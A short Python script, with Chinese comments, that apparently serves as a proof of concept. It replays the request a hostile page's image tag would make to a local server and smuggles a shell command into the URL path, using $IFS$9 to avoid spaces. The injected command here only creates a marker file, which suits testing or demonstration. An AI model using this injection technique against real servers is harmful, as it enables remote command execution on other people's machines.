"""浏览器替网页发的请求:网页里写着 <img src="http://127.0.0.1:8080/;touch$IFS$9made-by-page;">。

网页看不到回答,可是字节已经到了。$IFS 是空白,$9 是空的:网址里不用写空格。用法:danger_browser.py 127.0.0.1:8080
"""
import socket
import sys

host, port = sys.argv[1].rsplit(":", 1)
request = [
    "GET /;touch$IFS$9made-by-page; HTTP/1.1",
    f"Host: {sys.argv[1]}",
    "Connection: keep-alive",
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Accept: image/avif,image/webp,*/*;q=0.8",
    "Referer: http://evil.example/",
]
answer = b""
with socket.create_connection((host, int(port)), timeout=5) as browser:
    browser.sendall("".join(line + "\r\n" for line in request + [""]).encode())
    browser.shutdown(socket.SHUT_WR)
    try:
        while data := browser.recv(4096):
            answer += data
    except ConnectionResetError:
        pass  # 服务器没有读完就挂断了
lines = answer.decode(errors="replace").split("\n")
print("最后一行:", "".join(char for char in lines[-1] if char.isprintable()))
